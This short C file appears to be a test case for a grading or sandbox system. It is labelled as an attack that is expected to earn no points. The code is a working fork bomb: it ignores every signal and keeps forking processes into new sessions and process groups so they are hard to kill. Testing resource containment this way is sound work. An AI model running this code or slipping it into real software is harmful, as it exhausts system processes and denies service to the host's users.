// attack: a fork bomb in sessions of their own, every process of which ignores what can be ignored
// expect: no-points
int main(void)
{
    for (int sig = 1; sig <= SIGRTMAX; sig++)
        signal(sig, SIG_IGN);
    for (;;) {
        setsid();
        pid_t pid = fork();
        if (pid > 0 && fork() == 0)
            setpgid(0, 0);
    }
}
